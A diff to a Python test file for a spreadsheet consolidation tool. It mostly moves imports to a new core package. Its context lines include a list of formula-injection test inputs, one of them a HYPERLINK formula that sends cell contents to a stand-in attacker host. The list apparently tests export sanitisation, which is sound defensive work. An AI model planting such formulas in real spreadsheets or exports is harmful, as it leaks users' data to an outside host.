@@ -16,11 +16,11 @@ from openpyxl import load_workbook
 from sqlalchemy import select
 
 from consolidate import pipeline
-from consolidate.cells import csv_text, from_csv_text
+from consolidate.core.cells import csv_text, from_csv_text
+from consolidate.core.store import ArticleRow, PushRecord
 from consolidate.redirects import Redirect, _read_csv, render_csv
 from consolidate.report import fleet_report
 from consolidate.report_formats import render_xlsx
-from consolidate.store import ArticleRow, PushRecord
 from mappers.sheet import MAX_XLSX_BYTES, SheetRow, TargetChoice, read_sheet, write_sheet
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
